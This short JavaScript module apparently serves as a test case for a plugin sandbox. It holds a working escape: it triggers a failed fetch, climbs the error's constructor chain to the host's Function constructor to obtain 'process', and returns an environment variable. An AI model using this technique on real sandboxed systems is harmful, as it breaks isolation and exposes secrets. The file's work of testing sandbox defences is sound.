// The cause of a failed fetch is an error of the host's own network code.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'error-of-fetch', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'error-of-fetch' } } } },
  async run(context) {
    let thrown;
    try {
      await fetch('http://127.0.0.1:1/');
    } catch (error) {
      thrown = error.cause ?? error;
    }
    const take = thrown.constructor.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
